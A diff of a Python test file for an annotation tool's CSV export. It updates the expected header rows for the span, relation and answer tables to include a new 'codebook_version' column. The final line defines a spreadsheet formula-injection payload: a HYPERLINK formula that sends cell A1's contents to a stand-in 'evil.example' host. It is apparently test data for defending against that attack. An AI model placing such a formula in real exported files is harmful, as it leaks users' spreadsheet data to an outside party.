@@ -134,7 +134,7 @@ class TestWrite:
         rows = rows_of(export(export_records()))
         assert list(rows[0]) == [
             "document_id", "external_id", "title", "source", "annotator", "label", "start", "end", "text",
-            "review_status", "note",
+            "review_status", "note", "codebook_version",
         ]  # fmt: skip
         assert len(rows) == sum(len(record["spans"]) for record in export_records())
         assert (rows[0]["title"], rows[0]["source"]) == ("Harbour council delays the ferry vote", "The Quayside Ledger")
@@ -156,7 +156,8 @@ class TestWrite:
 
     def test_no_records_is_the_header_alone(self):
         assert export([]) == (
-            b"\xef\xbb\xbfdocument_id,external_id,title,source,annotator,label,start,end,text,review_status,note\r\n"
+            b"\xef\xbb\xbfdocument_id,external_id,title,source,annotator,label,start,end,text,review_status,note,"
+            b"codebook_version\r\n"
         )
 
 
@@ -173,7 +174,7 @@ class TestWriteRelations:
         assert list(rows[0]) == [
             "document_id", "external_id", "title", "source", "annotator", "type",
             "from_id", "from_label", "from_start", "from_end", "from_text",
-            "to_id", "to_label", "to_start", "to_end", "to_text", "review_status", "note",
+            "to_id", "to_label", "to_start", "to_end", "to_text", "review_status", "note", "codebook_version",
         ]  # fmt: skip
         assert [
             (row["document_id"], row["annotator"], row["type"], row["from_id"], row["from_text"], row["to_id"],
@@ -214,6 +215,7 @@ class TestWriteAnswers:
         rows = answers_of(export_records())
         assert list(rows[0]) == [
             "document_id", "external_id", "title", "source", "annotator", "question", "value", "review_status",
+            "codebook_version",
         ]  # fmt: skip
         assert [(row["document_id"], row["annotator"], row["question"], row["value"], row["review_status"])
                 for row in rows] == [
@@ -232,7 +234,9 @@ class TestWriteAnswers:
 
     def test_no_answers_is_the_header_alone(self):
         data = b"".join(csv_format.write([{"id": 1, "text": "abc"}], table="answers"))
-        assert data == "\ufeffdocument_id,external_id,title,source,annotator,question,value,review_status\r\n".encode()
+        assert data == (
+            "\ufeffdocument_id,external_id,title,source,annotator,question,value,review_status,codebook_version\r\n"
+        ).encode()
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
